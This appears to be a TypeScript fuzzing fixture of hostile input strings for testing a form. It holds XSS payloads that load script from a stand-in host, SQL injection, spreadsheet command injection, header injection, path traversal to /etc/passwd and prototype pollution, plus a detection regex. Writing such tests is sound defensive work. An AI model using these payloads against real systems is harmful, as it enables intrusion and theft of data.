import fc from 'fast-check';
import { awkwardNames, honestNames, hostileNames } from './names.ts';

/** What somebody sends who means harm, or whose program is broken. */

/** In a form's own encoding fifteen thousand bytes. */
export const LONG = 'ж'.repeat(2_500);

/** Each of them is a fault, or harmless text that has to stay text. */
const pieces: readonly string[] = [
  ...awkwardNames,
  ...hostileNames.map(([text]) => text),
  '<script>alert(1)</script>',
  '</title></textarea></style><script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '"><a href="javascript:alert(1)">x</a>',
  '<style>@import "//evil.example"</style>',
  '<!-- --><![CDATA[ ]]>',
  '&#x3c;script&#x3e;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a placeholder of other languages' templates
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  "'; DROP TABLE signatures; --",
  "' OR '1'='1",
  '\\x27; --',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"x"!A0',
  '+HYPERLINK("http://evil.example")',
  '-2+3',
  '\t=1+1',
  '＝1＋1',
  'Ada\r\nBcc: victim@evil.example',
  'Ada\nSubject: forged\n\nforged body',
  '%0d%0aSet-Cookie:%20session=x',
  'Ada\u2028Bcc: x@evil.example\u2029',
  '[click](javascript:alert(1)) ![x](//evil.example/x.png)',
  '# heading\n\n- item\n\n```',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'C:\\CON',
  '__proto__',
  'constructor',
  'prototype.polluted',
  'hasOwnProperty',
  'undefined',
  'null',
  'NaN',
  '-1',
  '1e309',
  '0x7fffffff',
  '9007199254740993',
  '٣١٢٣٤',
  '\u0000',
  'Ada\u0000Orr',
  '\u001b[2J\u0007',
  '\u202eevil\u202c',
  '\u2066\u2067\u2068\u2069',
  'А\u0430da Оrr',
  'раураl.example',
  'ⅷ①㏒ﬀ',
  `Z${'\u0351\u0328\u0489'.repeat(30)}algo`,
  `a${'\u0300'.repeat(9)}`,
  '👩‍👩‍👧‍👦🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '\u{1F1E6}\u{1F1E7}',
  '\uD800',
  '\uDFFF\uD800',
  'ا\u0627\u0651 abc 123 שלום',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\u3164\uffa0\u115f',
  '\u00a0\u2003\u3000',
  ' ',
  'x'.repeat(121),
  'x'.repeat(1_100),
  LONG,
  '﷽'.repeat(100),
  'a,b;c\td"e\'f|g',
  '"',
  "'",
  '\\',
  '$&$1$`',
  '%s%n%p',
  '{0}{name, plural, one {x}}',
  'ada@evil.example,b@evil.example',
  '"Ada\\" <x@evil.example>"@evil.example',
  '2026-02-31',
  '0000-00-00',
  '99999-01-01',
];

/** One such string, or several together, or among honest ones. */
export const hostileStrings: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...pieces) },
  {
    weight: 4,
    arbitrary: fc.array(fc.constantFrom(...pieces, ...honestNames), { minLength: 2, maxLength: 4 }).map((some) => some.join(' ')),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 20 }).map((units) => String.fromCharCode(...units)) },
);

/** Of each kind that has a guard of its own: every sample holds them. */
export const worstStrings: readonly string[] = ['<img src=x onerror=alert(1)>', '=1+1', 'Ada\r\nBcc: x@evil.example', 'Ada\u0000Orr'];

/** What a field holds that no form has: JSON can say it. */
export const oddValues: readonly unknown[] = [
  null,
  true,
  7,
  -0,
  1e308,
  [],
  ['a', 'b'],
  [['a']],
  {},
  { toString: 'x' },
  { length: 1, 0: 'a' },
  { constructor: { prototype: { polluted: 'yes' } } },
  JSON.parse('{"__proto__":{"polluted":"yes"}}'),
];

/** Bytes that stand for no text, as a form may send them. */
export const brokenBytes: readonly string[] = ['%FF', '%C0%AF', '%ED%A0%80', '%F5%80%80%80', '%', '%zz', '%00', '%E2%80%AE', '+%2B%26%3D'];

/** Mark-up of the strings above that must never reach a reader as mark-up. */
export const LIVE_MARKUP =
  /<(?:script|img|svg|iframe|style>@import)[^>]*(?:alert|evil|onerror|onload|srcdoc)|<a[^>]+javascript:|href="javascript:|<script>alert/i;

/** The same in a page that has tags of the framework's own. */
export const isLive = (html: string): boolean => LIVE_MARKUP.test(html);
